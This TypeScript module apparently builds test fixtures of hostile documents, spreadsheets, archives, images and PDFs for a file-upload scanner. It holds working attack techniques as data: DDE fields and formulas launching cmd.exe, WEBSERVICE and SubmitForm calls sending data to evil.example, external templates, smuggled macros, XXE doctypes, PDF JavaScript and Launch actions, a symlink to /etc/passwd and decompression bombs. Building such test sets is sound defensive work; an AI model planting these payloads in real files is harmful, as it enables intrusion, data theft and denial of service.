import { constants, deflateRawSync, deflateSync } from 'node:zlib'
import { chunk, docx, docxParts, excelPart, jpeg, link, override, packed, part, pdf, png, rels, sheet, stream, types, wordBody, wordPart, wordType, xlsx, xlsxParts, zip, excelType, type Part } from './sample-files'

/** Deflated zero bytes that end at a whole byte, so that pieces can follow each other. */
const zeros = (size: number) => deflateRawSync(Buffer.alloc(size), { finishFlush: constants.Z_SYNC_FLUSH })
const million = zeros(1_000_000)

/** Zlib data (RFC 1950) of zero bytes, joined from pieces, because deflating 300 MB takes a second. */
function packedZeros(size: number): Buffer {
  const adler = Buffer.alloc(4)
  adler.writeUInt32BE((size % 65_521) * 65_536 + 1)
  const pieces = Array.from({ length: Math.floor(size / 1_000_000) }, () => million)
  return Buffer.concat([Buffer.from([0x78, 0x9c]), ...pieces, zeros(size % 1_000_000), Buffer.from([3, 0]), adler])
}

const format = 'application/vnd.openxmlformats-officedocument'
const fromDocument = (...each: string[]) => rels('word/document.xml', ...each)
const fromSheet = (...each: string[]) => rels('xl/worksheets/sheet1.xml', ...each)
const field = (...runs: string[]) =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${runs.map((one) => (one.startsWith('<') ? one : `<w:r><w:instrText xml:space="preserve">${one}</w:instrText></w:r>`)).join('')}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
const withField = (...runs: string[]) => docx([wordBody(field(...runs))])
const external = (type: string, target: string) => docx([fromDocument(link(1, type, target, 'External'))])
const formula = (text: string) => xlsx([sheet(`<c r="A1"><f>${text}</f><v>1</v></c>`)])
const raw = (name: string, body: Buffer): Part => ({ name, body })
const doctype = '<!DOCTYPE x [<!ENTITY a "b">]>'
const wide = (text: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')])
const classFile = Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52])

const wordKinds: Record<string, Buffer> = {
  'an external template': docx([wordPart('word/settings.xml', 'settings', '<w:attachedTemplate r:id="rId1"/>'), rels('word/settings.xml', link(1, 'attachedTemplate', 'https://evil.example/a.dotm', 'External'))]),
  'a template by another case of External': docx([rels('word/settings.xml', link(1, 'attachedTemplate', 'https://evil.example/a.dotm', 'external'))]),
  'a template without its mode': docx([rels('word/settings.xml', link(1, 'image', 'https://evil.example/a.png'))]),
  'two modes of one link': docx([part('word/_rels/document.xml.rels', '<Relationships xmlns:x="y"><Relationship Id="a" Type="a/image" Target="https://evil.example/a" TargetMode="External" x:TargetMode="Internal"/></Relationships>')]),
  'a picture from elsewhere': external('image', 'https://evil.example/a.png'),
  'a subdocument': external('subDocument', 'https://evil.example/a.docx'),
  'a frame': external('frame', 'https://evil.example/a.htm'),
  'a mail merge': external('mailMergeSource', 'file:///C:/a.mdb'),
  'a linked object': external('oleObject', 'https://evil.example/a.rtf'),
  'a link to a file': external('hyperlink', 'file:///C:/Windows/System32/calc.exe'),
  'a link to a share': external('hyperlink', '\\\\evil.example\\share\\a'),
  'a link with a script': external('hyperlink', 'javascript:alert(1)'),
  'a link to a protocol of Office': external('hyperlink', 'ms-word:ofe|u|https://evil.example/a.docm'),
  'a link to search-ms': external('hyperlink', 'search-ms:query=a'),
  'an HTML part': docx([wordBody('<w:altChunk r:id="rId1"/>'), fromDocument(link(1, 'aFChunk', 'afchunk.htm')), part('word/afchunk.htm', '<html/>')]),
  'an HTML part by a plain name': docx([wordBody('<w:altChunk r:id="rId1"/>'), fromDocument(link(1, 'aFChunk', 'a.xml')), part('word/a.xml', '<html/>')]),
  'an HTML part by its type': docx([types(wordType + override('word/a.xml', 'text/html')), part('word/a.xml', '<html/>')]),
  'an MHT part': docx([types(wordType + override('word/a.xml', 'message/rfc822')), part('word/a.xml', '<x/>')]),
  'class files': docx([raw('word/Evil.class', classFile)]),
  'a class file called a picture': docx([raw('word/media/image1.png', classFile)]),
  'a program called a picture': docx([raw('word/media/image1.jpeg', Buffer.from('MZ\x90\0'))]),
  'a script': docx([part('word/a.ps1', 'calc')]),
  'macros by another name': docx([types(wordType + override('word/project.xml', 'application/vnd.ms-office.vbaProject')), part('word/project.xml', '<x/>')]),
  'macros by a link': docx([fromDocument(link(1, 'http://schemas.microsoft.com/office/2006/relationships/vbaProject', 'a.xml')), part('word/a.xml', '<x/>')]),
  'a main part with macros': docx([types(override('word/document.xml', 'application/vnd.ms-word.document.macroEnabled.main+xml'))]),
  'a template as document': docx([types(override('word/document.xml', `${format}.wordprocessingml.template.main+xml`))]),
  ActiveX: docx([part('word/activeX/activeX1.xml', '<x/>'), fromDocument(link(1, 'control', 'activeX/activeX1.xml'))]),
  'an embedded document': docx([raw('word/embeddings/a.docx', docx()), fromDocument(link(1, 'package', 'embeddings/a.docx'))]),
  'an embedded workbook beside charts': docx([raw('word/embeddings/a.xlsx', xlsx()), fromDocument(link(1, 'package', 'embeddings/a.xlsx'))]),
  'macros in the workbook of a chart': docx([raw('word/embeddings/a.xlsx', xlsx([raw('xl/vbaProject.bin', Buffer.from('x'))])), rels('word/charts/chart1.xml', link(1, 'package', '../embeddings/a.xlsx'))]),
  'an archive as a picture': docx([raw('word/media/image1.png', zip([part('a', 'b')]))]),
  'an archive': docx([raw('word/media/a.zip', zip([part('a', 'b')]))]),
  'customUI': docx([part('customUI/customUI.xml', '<customUI/>'), rels('', link(1, 'officeDocument', 'word/document.xml'), link(2, 'http://schemas.microsoft.com/office/2006/relationships/ui/extensibility', 'customUI/customUI.xml'))]),
  'a web extension': docx([part('word/webextensions/taskpanes.xml', '<x/>')]),
  'a video of the web': docx([wordBody('<w:p><w:webVideoPr embeddedHtml="&lt;iframe src=&quot;https://evil.example&quot;&gt;"/></w:p>')]),
  'the field DDEAUTO': withField(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" '),
  'the field DDE in pieces': withField(' D', 'D', 'E cmd "/k calc" '),
  'the field DDE in words of a simple field': docx([wordBody('<w:p><w:fldSimple w:instr="DDEAUTO cmd &quot;/k calc&quot;"><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>')]),
  'a field made of another': withField(field(' QUOTE 68 68 69 ').replace(/<\/?w:p>/g, ''), ' cmd '),
  'a field inside IF': withField(' IF ', field(' DDE cmd "/k calc" ').replace(/<\/?w:p>/g, ''), ' = 1 '),
  'the field INCLUDETEXT': withField(' INCLUDETEXT "https://evil.example/a.docx" '),
  'the field INCLUDEPICTURE': withField(' INCLUDEPICTURE "https://evil.example/a.png" \\d '),
  'the field LINK': withField(' LINK Excel.Sheet.8 "https://evil.example/a.xls" '),
  'the field HYPERLINK to a file': withField(' HYPERLINK "file:///C:/calc.exe" '),
  'a field without its beginning': docx([wordBody('<w:p><w:r><w:instrText> DDEAUTO cmd </w:instrText></w:r></w:p>')]),
  'a DOCTYPE': docx([part('word/document.xml', `<?xml version="1.0"?>${doctype}<w:document xmlns:w="a"/>`)]),
  'a DOCTYPE in links': docx([part('word/_rels/document.xml.rels', `${doctype}<Relationships/>`)]),
  'a DOCTYPE in types': docx([part('[Content_Types].xml', `${doctype}<Types/>`)]),
  'a DOCTYPE in UTF-16': docx([raw('customXml/item1.xml', wide(`<?xml version="1.0" encoding="utf-16"?>${doctype}<x>&a;</x>`))]),
  'entities of its own': docx([part('customXml/item1.xml', '<x>&a;</x>')]),
  'another encoding': docx([part('customXml/item1.xml', '<?xml version="1.0" encoding="utf-7"?><x>+ADwAcwA-</x>')]),
  'XML cut short': docx([part('customXml/item1.xml', '<x>')]),
  'XML of great depth': docx([part('customXml/item1.xml', `${'<x>'.repeat(5000)}${'</x>'.repeat(5000)}`)]),
  'a stylesheet of its own': docx([part('customXml/item1.xml', '<?xml-stylesheet type="text/xsl" href="https://evil.example/a.xsl"?><x/>')]),
  'a picture with a script': docx([part('word/media/a.svg', '<svg xmlns="a"><script>alert(1)</script></svg>')]),
  'a picture with an event': docx([part('word/media/a.svg', '<svg xmlns="a" onload="alert(1)"/>')]),
  'a picture that bursts': docx([raw('word/media/image1.png', png(4, 4, [], [packedZeros(50_000_000)]))]),
}

const excelKinds: Record<string, Buffer> = {
  'DDE in a formula': formula("cmd|' /C calc'!A0"),
  'DDE in quotes': formula("'cmd'|'/C calc'!A0"),
  'DDE by a link': xlsx([excelPart('xl/externalLinks/externalLink1.xml', 'externalLink', '<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'), rels('xl/workbook.xml', link(1, 'externalLink', 'externalLinks/externalLink1.xml'))]),
  'DDE by a link with a plain name': xlsx([excelPart('xl/a.xml', 'externalLink', '<ddeLink ddeService="cmd" ddeTopic="/c calc"/>')]),
  'DDE in a name': xlsx([excelPart('xl/workbook.xml', 'workbook', '<sheets/><definedNames><definedName name="a">cmd|\'/c calc\'!A0</definedName></definedNames>')]),
  'DDE in a check of values': xlsx([sheet(undefined, '<dataValidations count="1"><dataValidation type="list" sqref="A1"><formula1>cmd|\'/c calc\'!A0</formula1></dataValidation></dataValidations>')]),
  WEBSERVICE: formula('_xlfn.WEBSERVICE("https://evil.example/"&amp;A1)'),
  'IMAGE of the web': formula('_xlfn.IMAGE("https://evil.example/a.png")'),
  RTD: formula('RTD("evil",,"a")'),
  'HYPERLINK to a share': formula('HYPERLINK("\\\\evil.example\\a","点这里")'),
  'a macro on a shape': xlsx([part('xl/drawings/drawing1.xml', '<xdr:wsDr xmlns:xdr="a"><xdr:sp macro="[1]!a"/></xdr:wsDr>')]),
  'a name that runs at opening': xlsx([excelPart('xl/workbook.xml', 'workbook', '<sheets/><definedNames><definedName name="_xlnm.Auto_Open">台账!$A$1</definedName></definedNames>')]),
  'a sheet of macros': xlsx([types(excelType + override('xl/macrosheets/sheet1.xml', 'application/vnd.ms-excel.macrosheet+xml')), part('xl/macrosheets/sheet1.xml', '<x/>')]),
  connections: xlsx([excelPart('xl/connections.xml', 'connections', '<connection id="1" type="4"><webPr url="https://evil.example"/></connection>')]),
  'connections by another name': xlsx([rels('xl/workbook.xml', link(1, 'worksheet', 'worksheets/sheet1.xml'), link(2, 'connections', 'a.xml')), excelPart('xl/a.xml', 'connections', '')]),
  'a query': xlsx([excelPart('xl/queryTables/queryTable1.xml', 'queryTable', '')]),
  'an object': xlsx([raw('xl/embeddings/a.bin', Buffer.from('\xd0\xcf\x11\xe0', 'latin1')), fromSheet(link(1, 'oleObject', '../embeddings/a.bin'))]),
  'a program as settings of the printer': xlsx([raw('xl/printerSettings/printerSettings1.bin', Buffer.from('MZ\x90\0'))]),
  'a main part with macros': xlsx([types(override('xl/workbook.xml', 'application/vnd.ms-excel.sheet.macroEnabled.main+xml'))]),
}

const [first, ...rest] = docxParts()
const archiveKinds: Record<string, Buffer> = {
  'two parts of one name': zip([...docxParts(), wordBody()]),
  'two parts of one name by case': zip([...docxParts(), part('Word/Document.xml', '<x/>')]),
  'two parts of one name by escapes': zip([...docxParts(), part('word/%64ocument.xml', '<x/>')]),
  'a part behind an escaped way': docx([part('word/%2e%2e/a.xml', '<x/>')]),
  'a head with another name': zip([{ ...first!, localName: '[Content_Types].xmL' }, ...rest]),
  'a head with another size': zip([{ ...first!, localSize: 3 }, ...rest]),
  'a part that is locked': zip([{ ...first!, flags: 1 }, ...rest]),
  'a part packed in another way': zip([{ ...first!, method: 12 }, ...rest]),
  'a damaged part': zip([{ ...first!, check: 1 }, ...rest]),
  'a link of the file system': zip([...docxParts(), { ...part('word/a.xml', '/etc/passwd'), link: true, plain: true }]),
  'something between the parts': zip(docxParts(), { gap: Buffer.from('PK\x03\x04hidden') }),
  'more parts than it has': zip(docxParts(), { count: 9 }),
  'a comment': zip(docxParts(), { comment: '<script>alert(1)</script>' }),
  'a part of 60 MB from 60 KB': docx([raw('customXml/item1.xml', Buffer.from(`<x>${' '.repeat(60_000_000)}</x>`))]),
}

const words = (keyword: string, body: Buffer) => chunk(keyword, Buffer.concat([Buffer.from(keyword === 'iTXt' ? 'a\0\x01\0\0\0' : 'a\0\0', 'latin1'), body]))
const pictureKinds: Record<string, Buffer> = {
  'pixels of 300 MB': png(10, 10, [], [packedZeros(300_000_000)]),
  'pixels of 300 MB in pieces': png(10, 10, [], [0, 1, 2, 3].map((at) => packedZeros(300_000_000).subarray(at * 70_000, (at + 1) * 70_000 + (at === 3 ? 1e6 : 0)))),
  'fewer pixels than it says': png(100, 100, [], [packedZeros(100)]),
  'something after its pixels': png(1, 1, [], [Buffer.concat([packedZeros(4), Buffer.from('MZ')])]),
  'true pixels out of proportion': png(7_900, 7_900, [], [deflateSync(Buffer.alloc(7_900 * (7_900 * 3 + 1)))]),
  'a description of 200 MB': png(2, 2, [words('zTXt', packedZeros(200_000_000))]),
  'an international description of 200 MB': png(2, 2, [words('iTXt', packedZeros(200_000_000))]),
  'a colour profile of 200 MB': png(2, 2, [words('iCCP', packedZeros(200_000_000))]),
  'many descriptions of 1 MB': png(2, 2, Array.from({ length: 60 }, () => words('zTXt', packedZeros(1_000_000)))),
  'frames of an animation': png(2, 2, [chunk('acTL', Buffer.from([0, 0, 3, 0, 0, 0, 0, 0])), chunk('fdAT', Buffer.concat([Buffer.alloc(4), packedZeros(100_000_000)]))]),
  'a chunk that nobody knows': png(2, 2, [chunk('EVIL', Buffer.from('x'))]),
}
const photoKinds: Record<string, Buffer> = {
  'a huge photo without pixels': tiny(8_000, 8_000),
  'two hundred passes': jpeg(640, 480, { progressive: true, scans: 200 }),
  'two frames': twoFrames(),
  'another file behind it': Buffer.concat([jpeg(64, 64, { before: [[0xe2, 'MPF\0abc']] }), zip([part('a', 'b')])]),
}

/** A header with the dimensions of a large photo before the data of a small one. */
function tiny(width: number, height: number): Buffer {
  const bytes = Buffer.from(jpeg(16, 16))
  const at = bytes.indexOf(Buffer.from([0xff, 0xc0]))
  bytes.writeUInt16BE(height, at + 5)
  bytes.writeUInt16BE(width, at + 7)
  return bytes
}

function twoFrames(): Buffer {
  const bytes = jpeg(16, 16)
  const at = bytes.indexOf(Buffer.from([0xff, 0xc0]))
  return Buffer.concat([bytes.subarray(0, at), bytes.subarray(at, at + 13), bytes.subarray(at)])
}

const hidden = (text: string) => packed(5, `9 0 ${text}`, '/Type /ObjStm /N 1 /First 4')
const hex = (bytes: Buffer) => `${bytes.toString('hex')}>`
const bomb = packedZeros(300_000_000)
const pdfKinds: Record<string, Buffer> = {
  'a script in packed objects': pdf('', hidden('<< /S /JavaScript /JS (app.alert(1)) >>')),
  'a program in packed objects': pdf('', hidden('<< /S /Launch /F (calc.exe) >>')),
  'an escaped name in packed objects': pdf('', hidden('<< /S /J#61v#61Script >>')),
  'packed objects that do not say so': pdf('', packed(5, '9 0 << /S /JavaScript /JS (a) >>')),
  'packed objects as hexadecimal': pdf('', stream(5, '/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]', hex(deflateSync(Buffer.from('9 0 << /S /JavaScript >>'))))),
  'packed objects behind a comment': pdf('', Buffer.concat([Buffer.from('5 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >> % 6 0 obj << >>\nstream\n'), deflateSync(Buffer.from('9 0 << /S /JavaScript >>')), Buffer.from('\nendstream\nendobj\n')])),
  'packed objects in an unknown way': pdf('', stream(5, '/Type /ObjStm /Filter /LZWDecode', 'x')),
  'a file': pdf('', packed(5, 'MZ', '/Type /EmbeddedFile')),
  'a rich medium': pdf('', '5 0 obj << /Type /Annot /Subtype /RichMedia >> endobj\n'),
  'a form of XFA in packed objects': pdf('', hidden('<< /XFA 4 0 R >>')),
  'an opening that fetches': pdf('/OpenAction << /S /URI /URI (https://evil.example) >>'),
  'an opening that fetches elsewhere': pdf('/OpenAction 7 0 R', '7 0 obj << /S /URI /URI (https://evil.example) >> endobj\n'),
  'an opening that fetches from packed objects': pdf('/OpenAction 9 0 R', hidden('<< /S /URI /URI (https://evil.example) >>')),
  'a link to another file': pdf('', '5 0 obj << /S /GoToR /F (\\\\evil.example\\a) >> endobj\n'),
  'a form that is sent': pdf('', hidden('<< /S /SubmitForm /F (https://evil.example) >>')),
  'a password': pdf('', 'trailer << /Encrypt 5 0 R >>\n'),
  'a page of 300 MB': pdf('', stream(5, '/Filter /FlateDecode', bomb)),
  'a page of 300 MB with its length elsewhere': pdf('', stream(5, '/Filter /Fl /Length 8 0 R', bomb, { length: false })),
  'a page packed twice': pdf('', stream(5, '/Filter [/FlateDecode /FlateDecode]', deflateSync(bomb))),
  'a picture of 300 MB': pdf('', stream(5, '/Subtype /Image /Width 10 /Height 10 /Filter /FlateDecode', bomb)),
  'a picture of great size': pdf('', stream(5, '/Subtype /Image /Width 90000 /Height 90000 /Filter /DCTDecode', 'x')),
  'a stream that lies elsewhere': pdf('', stream(5, '/F (https://evil.example/a)', 'x')),
  'a way of packing that lies elsewhere': pdf('', stream(5, '/Filter 8 0 R', bomb)),
}

const named = (ending: string, kinds: Record<string, Buffer>) => Object.entries(kinds).map(([what, bytes]) => ({ what: `${ending} with ${what}`, name: `a.${ending}`, bytes }))

/** Complete files of their type that harm whoever opens them, each in a different way. */
export const hostileKinds = () => [
  ...named('docx', wordKinds), ...named('xlsx', excelKinds), ...named('docx', archiveKinds), ...named('png', pictureKinds), ...named('jpg', photoKinds), ...named('pdf', pdfKinds),
  { what: 'xlsx with a document', name: 'a.xlsx', bytes: zip(xlsxParts([types(wordType)])) },
]
